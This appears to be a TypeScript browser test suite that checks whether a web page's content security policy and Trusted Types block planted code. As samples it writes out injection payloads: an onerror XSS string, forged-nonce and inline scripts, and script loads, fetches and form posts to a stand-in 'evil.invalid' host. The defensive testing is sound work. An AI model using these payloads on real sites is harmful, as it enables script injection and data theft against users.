// The security policy of pages in a real browser: no page does what it forbids, and what an attacker would plant does not run.
import assert from 'node:assert/strict';
import { journey, type Visit } from './browser.ts';

type Stopped = { ran: boolean; threw: string; violations: string[] };

/** Does something in the page as a script of an attacker would; gives what came of it. */
async function attempt(visit: Visit, code: string): Promise<Stopped> {
  return visit.page.evaluate<Stopped>(`(async () => {
    window.ran = false;
    window.violations.length = 0;
    let threw = '';
    try { ${code} } catch (wrong) { threw = wrong.name; }
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { ran: window.ran, threw, violations: [...window.violations] };
  })()`);
}

const planted: Readonly<Record<string, { readonly code: string; readonly stops: RegExp }>> = {
  'an inline script': {
    code: `const s = document.createElement('script'); s.append('window.ran = true'); document.body.append(s);`,
    stops: /script-src|trusted-types/,
  },
  'a script that carries a made-up nonce': {
    code: `const s = document.createElement('script'); s.nonce = 'abc'; s.append('window.ran = true'); document.body.append(s);`,
    stops: /script-src|trusted-types/,
  },
  'an event handler in an attribute': {
    code: `const i = document.createElement('img'); i.setAttribute('onerror', 'window.ran = true'); i.src = '/nothing.png'; document.body.append(i);`,
    stops: /script-src-attr|trusted-types/,
  },
  'text that becomes markup': { code: `document.querySelector('main').innerHTML = '<img src=x onerror="window.ran = true">';`, stops: /trusted-types/ },
  'text that is written into the document': { code: `document.write('<p>x</p>');`, stops: /trusted-types/ },
  'text that becomes code': { code: `setTimeout('window.ran = true', 0);`, stops: /trusted-types|script-src/ },
  'a script from another site': {
    code: `const s = document.createElement('script'); s.setAttribute('src', 'https://evil.invalid/x.js'); document.body.append(s);`,
    stops: /trusted-types|script-src/,
  },
  'a policy that would let text become markup': { code: `trustedTypes.createPolicy('default', { createHTML: (text) => text });`, stops: /trusted-types/ },
  'a style in the page': {
    code: `const s = document.createElement('style'); s.append('body { display: none }'); document.head.append(s);`,
    stops: /style-src/,
  },
  'a picture from another site': { code: `new Image().src = 'https://evil.invalid/x.png';`, stops: /img-src/ },
  'a message to another site': { code: `await fetch('https://evil.invalid/').catch(() => undefined);`, stops: /connect-src/ },
  'a frame': { code: `const f = document.createElement('iframe'); f.src = '/'; document.body.append(f);`, stops: /frame-src|default-src/ },
  'another base for the links': {
    code: `const b = document.createElement('base'); b.href = 'https://evil.invalid/'; document.head.append(b);`,
    stops: /base-uri/,
  },
  'a form that posts to another site': {
    code: `const f = document.createElement('form'); f.action = 'https://evil.invalid/'; f.method = 'post'; document.body.append(f); f.submit();`,
    stops: /form-action/,
  },
};

journey('what somebody plants in a page does not run, and the page goes on', async ({ sit }) => {
  const visit = await sit('practice-amber');
  assert.equal(await visit.go('/referral'), 200);
  for (const [what, { code, stops }] of Object.entries(planted)) {
    const { ran, violations } = await attempt(visit, code);
    assert.equal(ran, false, `${what} ran`);
    assert.match(violations.join('\n'), stops, `${what}: nothing was reported`);
  }
  assert.equal(visit.at(), '/referral');
  // What was planted is no fault of the page's.
  assert.equal(await visit.go('/referral'), 200);
  visit.found.length = 0;
});

journey('where scripts run the page knows it before it is drawn, without any code in the page itself', async ({ sit }) => {
  const visit = await sit('practice-amber');
  await visit.go('/referral');
  assert.match(await visit.page.evaluate<string>('document.body.className'), /js-enabled govuk-frontend-supported/);
  const inline = await visit.page.evaluate<number>(
    `[...document.scripts].filter((one) => !one.src).length + document.querySelectorAll('style, [style]').length`,
  );
  assert.equal(inline, 0);
});

journey('a page and its files in a frame of another page, or fetched by another site, give nothing', async ({ sit, walk }) => {
  const visit = await sit('practice-amber');
  const answer = await visit.page.request.get('/referral');
  const headers = answer.headers();
  assert.match(headers['content-security-policy'] ?? '', /frame-ancestors 'none'/);
  assert.equal(headers['cross-origin-resource-policy'], 'same-origin');
  assert.equal(headers['access-control-allow-origin'], undefined);
  const preflight = await fetch(`${walk.base}/api/v1/referrals`, {
    method: 'OPTIONS',
    headers: { origin: 'https://evil.invalid', 'access-control-request-method': 'POST' },
  });
  assert.equal(preflight.headers.get('access-control-allow-origin'), null);
});
